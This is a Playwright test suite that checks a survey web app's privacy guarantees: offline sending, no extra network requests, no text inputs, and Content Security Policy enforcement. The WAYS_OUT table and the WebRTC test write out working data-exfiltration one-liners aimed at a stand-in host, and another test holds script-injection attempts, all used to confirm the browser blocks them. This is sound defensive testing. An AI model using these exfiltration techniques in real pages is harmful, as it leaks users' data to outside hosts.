import { createSocket } from "node:dgram";
import type { Page } from "@playwright/test";
import { en } from "../../../frontend/src/respond/words/en";
import type { Published } from "../respond/definition";
import { expect, test } from "../respond/surveys";
import { textsIn } from "../respond/texts";
import { answer, begin, heading, send } from "../respond/walk";
import { site } from "../site/api";
import type { Wire } from "../site/wire";

/** What the page may do at all, whatever is answered. */
const phone = test.extend<{ page: Page; loaded: { page: Page; version: Published; wire: Wire } }>({
  page: async ({ browser, wire }, use) => {
    const context = await browser.newContext({ proxy: wire.proxy });
    await use(await context.newPage());
    await context.close();
  },
  loaded: async ({ page, version, wire }, use) => {
    const published = await version("everything");
    await page.clock.install();
    await page.goto(`${site()}/s/${published.slug}/`);
    await expect(heading(page)).toHaveText(published.definition.title);
    await wire.asked((sent) => sent.url.endsWith(".svg"));
    wire.taken();
    await use({ page, version: published, wire });
  },
});
const ANSWERS = [0, 1, 2, 3];
const HOUR = 3_600_000;

phone("nothing is requested however long one waits, before Send or after", async ({ loaded }) => {
  const { page, version, wire } = loaded;
  await page.clock.runFor(HOUR);
  await begin(page, version, 1);
  await page.clock.runFor(HOUR);
  await answer(page, version, ANSWERS);
  await page.clock.runFor(HOUR);
  expect(wire.taken()).toEqual([]);
  await send(page);
  await page.clock.runFor(HOUR);
  expect(wire.taken().map((sent) => sent.url)).toEqual([`${site()}/api/v1/reports/`]);
});

phone("in airplane mode the sealed report waits, and is sent once when the network is back", async ({ loaded }) => {
  const { page, version, wire } = loaded;
  await page.context().setOffline(true);
  await begin(page, version, 0);
  await answer(page, version, ANSWERS);
  const checksum = await page.locator("code").last().innerText();
  await page.getByRole("button", { name: en.review.send, exact: true }).click();
  await expect(page.getByText(en.sending.offline)).toBeVisible();
  await page.context().setOffline(false);
  await expect(heading(page)).toHaveText(en.receipt.title);
  expect(wire.taken()).toHaveLength(1);
  await expect(page.getByText(checksum)).toBeVisible();
});

phone(
  "the words of all its languages are there before a survey is shown, and changing asks for nothing",
  async ({ page, version, wire }) => {
    const published = await version("all types");
    await page.goto(`${site()}/s/${published.slug}/`);
    await expect(heading(page)).toHaveText(published.definition.title);
    await wire.asked((sent) => sent.url.endsWith(".svg"));
    const words = wire.taken().flatMap(({ url }) => /\/words-(.+)-.{8}\.json$/.exec(url)?.[1] ?? []);
    expect(words).toEqual(["ar", "zh-CN"]);
    await page.context().setOffline(true);
    for (const [language, direction] of [
      ["ar", "rtl"],
      ["zh-CN", "ltr"],
      ["en", "ltr"],
    ] as const) {
      const texts = textsIn(language);
      await page.getByRole("button", { name: texts.name, exact: true }).click();
      await expect(page.locator("html")).toHaveAttribute("dir", direction);
      await expect(page.getByRole("button", { name: texts.label.begin, exact: true })).toBeVisible();
    }
    expect(wire.taken()).toEqual([]);
  },
);

phone("where nothing is typed there is no field to type into", async ({ loaded }) => {
  const { page, version } = loaded;
  const typed = page.locator("textarea, select, [contenteditable], input:not([type=radio])");
  await expect(typed).toHaveCount(0);
  await begin(page, version, 0);
  await expect(typed).toHaveCount(0);
  await answer(page, version, ANSWERS);
  await expect(typed).toHaveCount(0);
  await send(page);
  await expect(heading(page)).toHaveText(en.receipt.title);
  await expect(typed).toHaveCount(0);
});

phone("a field to type into stands where no browser asks its maker about it", async ({ page, version, wire }) => {
  const published = await version("a scale and a day");
  await page.goto(`${site()}/s/${published.slug}/`);
  await begin(page, published, 0);
  await wire.asked((sent) => sent.url.endsWith(".svg"));
  wire.taken();
  await page.locator('[id="born-field"]').fill("2016-03-04");
  await page.keyboard.press("Enter"); // submits nothing
  await expect(page.getByText(en.fields.uses("from January 1, 2015, before July 1, 2020"))).toBeVisible();
  await page.getByRole("button", { name: en.questions.review, exact: true }).click();
  await send(page);
  expect(wire.taken().map((sent) => sent.url)).toEqual([`${site()}/api/v1/reports/`]);
});

const WAYS_OUT: Readonly<Record<string, string>> = {
  "a picture": 'new Image().src = "http://elsewhere.test/?x"',
  "a request": 'void fetch("http://elsewhere.test/?x", { mode: "no-cors" }).catch(() => {})',
  "a beacon": 'navigator.sendBeacon("http://elsewhere.test/?x", "x")',
  "another address": 'location.href = "http://elsewhere.test/?x"',
  "a window": 'window.open("http://elsewhere.test/?x")',
  "a frame":
    'document.body.append(Object.assign(document.createElement("iframe"), { src: "http://elsewhere.test/?x" }))',
  "a form":
    'const form = document.createElement("form"); form.action = "http://elsewhere.test/?x"; document.body.append(form); form.submit()',
  "a link that is fetched ahead":
    'document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: "http://elsewhere.test/?x" }))',
};
for (const [way, line] of Object.entries(WAYS_OUT)) {
  phone(`code that got into the page could not tell another host by ${way}`, async ({ loaded }) => {
    const { page, wire } = loaded;
    await page.evaluate(line).catch(() => undefined); // a navigation ends the call; refused or not, the wire knows
    const other = await page.context().newPage();
    await other.goto(`${site()}/api/v1/health/live/`); // what was on its way before has passed the wire
    expect(wire.taken().filter((sent) => sent.url.includes("elsewhere.test"))).toEqual([]);
  });
}

phone("code that got into the page could not tell another host by a call between browsers", async ({ loaded }) => {
  const heard = createSocket("udp4");
  await new Promise<void>((listening) => heard.bind(0, "127.0.0.1", listening));
  let packets = 0;
  heard.on("message", () => {
    packets += 1;
  });
  await loaded.page.evaluate(async (port) => {
    const call = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
    call.createDataChannel("x");
    const over = new Promise<void>((done) => {
      call.onicegatheringstatechange = () => call.iceGatheringState === "complete" && done();
    });
    await call.setLocalDescription();
    await over; // without the policy it asks the address above again and again, for ten seconds
  }, heard.address().port);
  heard.close();
  expect(packets).toBe(0);
});

phone("text cannot become code in the page", async ({ loaded }) => {
  const { page } = loaded;
  const refused = await page.evaluate(async () => {
    const attempts: (() => void)[] = [
      () => {
        document.body.innerHTML = "<b>x</b>";
      },
      () => void document.write("x"),
      () => void new Function("return 1"),
    ];
    const { port1, port2 } = new MessageChannel();
    const task = new Promise((begin) => port1.addEventListener("message", begin));
    port1.start();
    port2.postMessage("go");
    await task; // the call from outside that runs this may evaluate text; a task of the page's own may not
    return attempts.map((attempt) => {
      try {
        attempt();
        return "done";
      } catch (error) {
        return error instanceof Error ? error.name : "refused";
      }
    });
  });
  expect(refused).toEqual(["TypeError", "TypeError", "EvalError"]);
});

phone("a survey another page shows in a frame is not shown", async ({ loaded }) => {
  const { version } = loaded;
  const { headers } = await fetch(`${site()}/s/${version.slug}/`);
  expect(headers.get("content-security-policy")).toContain("frame-ancestors 'none'");
  expect(headers.get("set-cookie")).toBeNull();
});
